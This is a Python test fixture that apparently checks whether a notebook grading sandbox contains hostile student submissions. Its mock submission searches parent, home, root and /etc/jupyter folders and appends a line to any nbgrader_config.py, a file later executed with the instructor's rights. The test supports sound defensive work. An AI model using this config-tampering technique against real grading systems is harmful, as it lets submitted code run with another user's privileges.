"""Appends a line to each nbgrader_config.py, which the next command runs with the instructor's rights."""

from tests.hostile.toy import ROOT

ANSWER = """
import os
from pathlib import Path
homes = [Path(os.path.expanduser("~")), Path("/root"), *Path("/home").glob("*")]
folders = [Path.cwd(), *Path.cwd().parents, *(home / ".jupyter" for home in homes), Path("/etc/jupyter")]
for path in [folder / "nbgrader_config.py" for folder in folders]:
    try:
        if path.exists():
            with path.open("a") as file:
                file.write("# left by " + "a submission" + chr(10))
    except OSError:
        pass
def double(x):
    return x
"""


def won(course, me):
    paths = [folder / "nbgrader_config.py" for folder in (course.root, ROOT)]
    return any("# left by a submission" in path.read_text(encoding="utf-8") for path in paths)
